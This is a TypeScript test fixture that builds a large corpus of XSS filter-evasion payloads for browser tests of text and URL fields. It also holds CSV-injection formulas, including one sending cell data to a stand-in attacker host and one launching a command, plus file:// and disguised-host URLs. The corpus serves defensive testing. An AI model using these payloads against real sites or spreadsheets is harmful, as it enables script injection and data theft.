/**
 * A corpus of hostile strings for the XSS tests. Every payload that could run script calls
 * `__xss(<its id>)`, a global the browser tests define, so a payload that executes names itself.
 * `text` payloads go into every text field of the model; `url` payloads into every URL field.
 *
 * Sources of the patterns: OWASP XSS filter evasion cheat sheet, PortSwigger's XSS cheat sheet,
 * the mutation-XSS write-ups on DOMPurify bypasses, CSV-injection notes, and JSON-in-script
 * breakouts. They are strings here; no test ever passes them to innerHTML.
 */
export interface Payload {
  /** Stable number, passed to `__xss`. */
  id: number;
  /** `text` for text fields, `url` for URL fields (a hostile link target). */
  kind: "text" | "url";
  /** What trick it tries, for failure messages. */
  name: string;
  text: string;
}

const textTemplates: [string, string][] = [
  ["script tag", "<script>__xss(ID)</script>"],
  ["script tag uppercase", "<SCRIPT>__xss(ID)</SCRIPT>"],
  ["script tag with src data", '<script src="data:text/javascript,__xss(ID)"></script>'],
  ["script split by null", "<scr\u0000ipt>__xss(ID)</scr\u0000ipt>"],
  ["img onerror", "<img src=x onerror=__xss(ID)>"],
  ["img onerror quoted", '<img src="x" onerror="__xss(ID)">'],
  ["img onerror slash", "<img/src=x/onerror=__xss(ID)>"],
  ["img onerror backtick", "<img src=`x`onerror=__xss(ID)>"],
  ["svg onload", "<svg onload=__xss(ID)>"],
  ["svg slash onload", "<svg/onload=__xss(ID)>"],
  ["svg script", "<svg><script>__xss(ID)</script></svg>"],
  ["svg animate onbegin", "<svg><animate onbegin=__xss(ID) attributeName=x dur=1s></svg>"],
  ["svg set href", '<svg><a><set attributeName="href" to="javascript:__xss(ID)"/><text y="20">x</text></a></svg>'],
  ["svg xlink href", '<svg><a xlink:href="javascript:__xss(ID)"><text y="20">x</text></a></svg>'],
  ["svg foreignObject", "<svg><foreignObject><img src=x onerror=__xss(ID)></foreignObject></svg>"],
  ["svg use data url", '<svg><use href="data:image/svg+xml,<svg id=x xmlns=http://www.w3.org/2000/svg><image href=1 onerror=__xss(ID) /></svg>#x"/></svg>'],
  ["iframe srcdoc", '<iframe srcdoc="<script>parent.__xss(ID)</script>"></iframe>'],
  ["iframe javascript src", '<iframe src="javascript:parent.__xss(ID)"></iframe>'],
  ["object data", '<object data="javascript:__xss(ID)"></object>'],
  ["embed src", '<embed src="javascript:__xss(ID)">'],
  ["body onload", "<body onload=__xss(ID)>"],
  ["details ontoggle", "<details open ontoggle=__xss(ID)>"],
  ["input autofocus onfocus", "<input autofocus onfocus=__xss(ID)>"],
  ["select autofocus onfocus", "<select autofocus onfocus=__xss(ID)></select>"],
  ["textarea autofocus", "<textarea autofocus onfocus=__xss(ID)></textarea>"],
  ["video source onerror", "<video><source onerror=__xss(ID)></video>"],
  ["audio onerror", "<audio src=x onerror=__xss(ID)></audio>"],
  ["marquee onstart", "<marquee onstart=__xss(ID)>x</marquee>"],
  ["div onmouseover", '<div style="position:fixed;inset:0" onmouseover="__xss(ID)">x</div>'],
  ["onpointerenter", '<b onpointerenter=__xss(ID) style="display:block;position:fixed;inset:0">x</b>'],
  ["style onload", "<style onload=__xss(ID)></style>"],
  ["link onload", '<link rel="stylesheet" href="data:text/css,a{}" onload="__xss(ID)">'],
  ["anchor javascript", '<a href="javascript:__xss(ID)">click</a>'],
  ["form action", '<form action="javascript:__xss(ID)"><button>go</button></form>'],
  ["button formaction", '<form><button formaction="javascript:__xss(ID)">go</button></form>'],
  ["meta refresh", '<meta http-equiv="refresh" content="0;url=javascript:__xss(ID)">'],
  ["base href", '<base href="javascript:__xss(ID)//">'],
  ["math mglyph mxss", "<math><mtext><table><mglyph><style><img src=x onerror=__xss(ID)>"],
  ["noscript mxss", '<noscript><p title="</noscript><img src=x onerror=__xss(ID)>">'],
  ["template", "<template><script>__xss(ID)</script></template><img src=x onerror=__xss(ID)>"],
  ["comment breakout", "--><img src=x onerror=__xss(ID)><!--"],
  ["cdata", "<![CDATA[<script>__xss(ID)</script>]]>"],
  ["xml processing instruction", '<?xml-stylesheet href="javascript:__xss(ID)"?>'],
  ["attribute breakout double", '"><img src=x onerror=__xss(ID)>'],
  ["attribute breakout single", "'><img src=x onerror=__xss(ID)>"],
  ["attribute injection", '" onmouseover="__xss(ID)" x="'],
  ["attribute injection single", "' onfocus='__xss(ID)' autofocus x='"],
  ["unquoted attribute injection", "x onerror=__xss(ID) "],
  ["textarea breakout", "</textarea><img src=x onerror=__xss(ID)>"],
  ["title breakout", "</title><img src=x onerror=__xss(ID)>"],
  ["style breakout", "</style><img src=x onerror=__xss(ID)>"],
  ["json in script breakout", "</script><script>__xss(ID)</script>"],
  ["json in script breakout uppercase", "</SCRIPT ><script>__xss(ID)</script >"],
  ["json comment open", "<!--<script>__xss(ID)</script>"],
  ["json unicode line separator", "\u2028__xss(ID)\u2029"],
  ["js string breakout", "';__xss(ID);//"],
  ["js string breakout double", '";__xss(ID);//'],
  ["js template literal", "${__xss(ID)}`;__xss(ID);`"],
  ["template injection mustache", "{{constructor.constructor('__xss(ID)')()}}"],
  ["template injection angular", "{{$on.constructor('__xss(ID)')()}}"],
  ["html entity script", "&lt;script&gt;__xss(ID)&lt;/script&gt;"],
  ["numeric entity img", "&#60;img src=x onerror=__xss(ID)&#62;"],
  ["hex entity img", "&#x3C;img src=x onerror=__xss(ID)&#x3E;"],
  ["double encoded", "%253Cscript%253E__xss(ID)%253C%252Fscript%253E"],
  ["url encoded", "%3Cscript%3E__xss(ID)%3C%2Fscript%3E"],
  ["unicode escape", "\\u003cscript\\u003e__xss(ID)\\u003c/script\\u003e"],
  ["fullwidth brackets", "\uFF1Cscript\uFF1E__xss(ID)\uFF1C/script\uFF1E"],
  ["css expression", "color:red;background:url(javascript:__xss(ID));width:expression(__xss(ID))"],
  ["css import", "@import 'javascript:__xss(ID)';"],
  ["css style breakout", '";} body{background:url("javascript:__xss(ID)")} .x{"'],
  ["css inline style tag", "<style>*{background:url(javascript:__xss(ID))}</style>"],
  ["css custom property breakout", "red;}</style><script>__xss(ID)</script>"],
  ["css attribute style", '<p style="behavior:url(#default#time2);x:expression(__xss(ID))">x</p>'],
  ["svg style tag", "<svg><style>@import url(javascript:__xss(ID))</style></svg>"],
  ["prototype key", "__proto__"],
  ["constructor key", "constructor"],
  ["prototype word", "prototype"],
  ["toString key", "toString"],
  ["hasOwnProperty key", "hasOwnProperty"],
  ["valueOf key", "valueOf"],
  ["__defineGetter__ key", "__defineGetter__"],
  ["csv formula", "=HYPERLINK(\"https://attacker.invalid/?\"&A1,\"click\")"],
  ["csv formula cmd", "=cmd|' /C calc'!A0"],
  ["csv formula plus", "+SUM(1,1)"],
  ["csv formula at", "@SUM(1+1)"],
  ["csv formula minus", "-2+3+cmd|' /C calc'!A0"],
  ["csv quote and newline", 'a","b\n"c,d'],
  ["right-to-left override", "\u202Egnp.exe\u202C<script>__xss(ID)</script>"],
  ["zero-width joiners", "<scr\u200Dipt>__xss(ID)</scr\u200Dipt>"],
  ["bidi isolates and emoji", "\u2067عملية\u2069 🚔 <img src=x onerror=__xss(ID)>"],
  ["lone surrogate", "\uD800<img src=x onerror=__xss(ID)>\uDFFF"],
  ["control characters", "\u0001\u0002\u0007\u001B[31m<svg onload=__xss(ID)>"],
  ["null byte", "\u0000<script>__xss(ID)</script>"],
  ["markdown link", "[click](javascript:__xss(ID))"],
  ["markdown image", "![x](javascript:__xss(ID))"],
  ["dom clobbering", '<form id="__xss"><input name="ID"></form><img name="getElementById">'],
  ["dom clobbering anchor", '<a id="defaultView" href="javascript:__xss(ID)">x</a>'],
  ["srcset onerror", "<img srcset=x onerror=__xss(ID)>"],
  ["picture source", "<picture><source srcset=x><img src=x onerror=__xss(ID)></picture>"],
  ["event handler newline", "<img src=x\nonerror=__xss(ID)>"],
  ["event handler tab", "<img\tsrc=x\tonerror=__xss(ID)>"],
  ["formfeed separators", "<img\fsrc=x\fonerror=__xss(ID)>"],
  ["nested quotes", "<img src=\"x\" alt='\"' onerror=__xss(ID)>"],
  ["svg image onerror", "<svg><image href=x onerror=__xss(ID) /></svg>"],
  ["html in svg title", "<svg><title><img src=x onerror=__xss(ID)></title></svg>"],
  ["script type module", '<script type="module">__xss(ID)</script>'],
  ["import dynamic", "<script>import('data:text/javascript,__xss(ID)')</script>"],
  ["very long with tail", `${"A".repeat(5000)}<img src=x onerror=__xss(ID)>`],
];

const urlTemplates: [string, string][] = [
  ["javascript url", "javascript:__xss(ID)"],
  ["javascript mixed case", "JaVaScRiPt:__xss(ID)"],
  ["javascript upper", "JAVASCRIPT:__xss(ID)"],
  ["javascript leading space", " javascript:__xss(ID)"],
  ["javascript leading control", "\u0001javascript:__xss(ID)"],
  ["javascript tab inside", "java\tscript:__xss(ID)"],
  ["javascript newline inside", "java\nscript:__xss(ID)"],
  ["javascript carriage return", "java\rscript:__xss(ID)"],
  ["javascript entity", "&#106;avascript:__xss(ID)"],
  ["javascript hex entity", "&#x6A;avascript:__xss(ID)"],
  ["javascript colon entity", "javascript&colon;__xss(ID)"],
  ["javascript tab entity", "jav&#x09;ascript:__xss(ID)"],
  ["javascript percent", "%6Aavascript:__xss(ID)"],
  ["javascript comment", "javascript://%0a__xss(ID)"],
  ["javascript trailing space", "javascript:__xss(ID) "],
  ["javascript fullwidth", "\uFF4Aavascript:__xss(ID)"],
  ["data html", "data:text/html,<script>__xss(ID)</script>"],
  ["data html base64", "data:text/html;base64,B64(<script>parent.__xss(ID)</script>)"],
  ["data svg", "data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='__xss(ID)'/>"],
  ["data mixed case", "DaTa:text/html,<script>__xss(ID)</script>"],
  ["vbscript", "vbscript:msgbox(ID)"],
  ["vbscript upper", "VBSCRIPT:msgbox(ID)"],
  ["file url", "file:///etc/passwd"],
  ["blob url", "blob:https://example.org/ID"],
  ["ftp url", "ftp://example.org/ID"],
  ["mailto", "mailto:x@example.org?body=ID"],
  ["protocol relative", "//attacker.invalid/ID"],
  ["relative path", "../../admin/ID"],
  ["backslash host", "https:\\\\attacker.invalid\\ID"],
  ["http without host", "http:///ID"],
  ["https with space in host", "https://exa mple.org/ID"],
  ["https breaking attribute", 'https://example.org/"><img src=x onerror=__xss(ID)>'],
  ["https breaking attribute without spaces", 'https://example.org/"><img/src=x/onerror=__xss(ID)>'],
  ["https single quote", "https://example.org/'onmouseover='__xss(ID)"],
  ["https with javascript fragment", "https://example.org/#javascript:__xss(ID)"],
  ["https credentials", "https://user:pass@example.org/ID"],
  ["https host disguised by user name", "https://www.europol.europa.eu@attacker.invalid/ID"],
  ["https idn homograph", "https://xn--80ak6aa92e.com/ID"],
  ["https with newline", "https://example.org/\n<script>__xss(ID)</script>"],
  ["empty", ""],
];

/** Payloads whose URL is nevertheless an http(s) URL that a reader may accept and link. */
export const acceptedUrlNames = new Set([
  "https breaking attribute without spaces",
  "https single quote",
  "https with javascript fragment",
  "https idn homograph",
]);

function build(templates: [string, string][], kind: Payload["kind"], first: number): Payload[] {
  return templates.map(([name, template], i) => {
    const id = first + i;
    const text = template
      .replaceAll("ID", String(id))
      .replace(/B64\((.*)\)$/, (_, body: string) => btoa(body));
    return { id, kind, name, text };
  });
}

/** The text payloads, ids 1… */
export const textPayloads: Payload[] = build(textTemplates, "text", 1);
/** The URL payloads, ids after the text payloads. */
export const urlPayloads: Payload[] = build(urlTemplates, "url", textPayloads.length + 1);
/** All payloads. */
export const payloads: Payload[] = [...textPayloads, ...urlPayloads];
